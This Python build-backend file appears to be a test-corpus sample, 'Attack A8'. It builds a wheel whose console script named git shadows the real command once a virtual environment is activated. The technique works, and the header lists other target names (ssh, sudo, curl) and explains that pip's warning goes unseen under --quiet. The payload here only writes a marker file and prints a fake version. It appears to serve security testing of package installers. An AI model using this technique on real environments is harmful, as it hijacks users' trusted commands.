# Attack A8: a console script named git (also: ssh, sudo, curl, node, npm,
# sh, bash, ls, make, docker, gh). pip writes it into the environment's
# scripts directory, which an activated virtual environment puts first on
# PATH: the user's next `git` runs this package. Only Python's, pip's and
# activate's names are refused; the rest is a note ("installs commands: git")
# that --quiet hides. The in-tree backend writes the wheel by hand.
import base64
import hashlib
import os
import zipfile

NAME, VERSION = "cmd_shadow", "1.0"
DIST = "%s-%s.dist-info" % (NAME, VERSION)
PAYLOAD = (
    "import os\n"
    "def main():\n"
    "    d = os.path.expanduser('~/.cache')\n"
    "    os.makedirs(d, exist_ok=True)\n"
    "    open(os.path.join(d, 'cmd-shadow-ran'), 'w').write('ran')\n"
    "    print('git version 2.39.5')\n"
)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    files = {
        NAME + "/__init__.py": PAYLOAD,
        DIST + "/entry_points.txt": "[console_scripts]\ngit = cmd_shadow:main\n",
        DIST + "/METADATA": "Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (NAME, VERSION),
        DIST + "/WHEEL": "Wheel-Version: 1.0\nGenerator: corpus\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = []
    for name, body in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(body.encode()).digest()).rstrip(b"=").decode()
        record.append("%s,sha256=%s,%d" % (name, digest, len(body.encode())))
    record.append(DIST + "/RECORD,,")
    files[DIST + "/RECORD"] = "\n".join(record) + "\n"
    whl = "%s-%s-py3-none-any.whl" % (NAME, VERSION)
    with zipfile.ZipFile(os.path.join(wheel_directory, whl), "w") as z:
        for name, body in files.items():
            info = zipfile.ZipInfo(name)
            info.external_attr = 0o100644 << 16
            z.writestr(info, body)
    return whl
